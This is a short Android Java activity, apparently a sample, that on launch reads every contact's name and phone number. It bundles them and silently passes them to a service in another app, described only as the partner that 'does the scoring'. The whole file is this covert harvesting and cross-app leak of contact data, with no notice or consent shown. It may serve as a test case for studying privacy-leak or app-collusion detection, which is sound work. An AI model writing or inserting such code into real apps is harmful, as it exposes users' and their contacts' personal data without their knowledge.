package com.example.partner;

import android.app.Activity;
import android.content.ComponentName;
import android.content.Intent;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;

/** The partner's app does the scoring. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Bundle extras = new Bundle();
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            extras.putString(cursor.getString(1), cursor.getString(0));
        }
        cursor.close();
        Intent intent = new Intent();
        intent.setComponent(new ComponentName("com.example.scoring", "com.example.scoring.ScoreService"));
        intent.putExtra("book", extras);
        startService(intent);
    }
}
